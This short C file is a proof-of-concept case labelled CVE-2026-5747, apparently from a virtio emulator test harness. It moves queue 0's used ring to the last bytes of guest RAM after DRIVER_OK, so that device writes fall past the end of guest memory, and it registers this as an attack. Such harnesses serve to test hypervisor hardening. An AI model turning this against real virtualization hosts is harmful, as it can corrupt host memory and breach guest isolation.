/*
 * CVE-2026-5747, address rewrite: after DRIVER_OK, queue 0's used ring — the ring the device
 * writes — is moved to the last bytes of guest RAM, so used elements land past the end of RAM.
 */
#include "attack.h"

static void rewrite(void)
{
    vio_write(DEV, VIRTIO_MMIO_QUEUE_SEL, 0);
    write64(VIRTIO_MMIO_QUEUE_DEVICE_LOW, GUEST_RAM_SIZE - 8);
}

int main(void)
{
    return register_attack("queue-device-outside", rewrite);
}
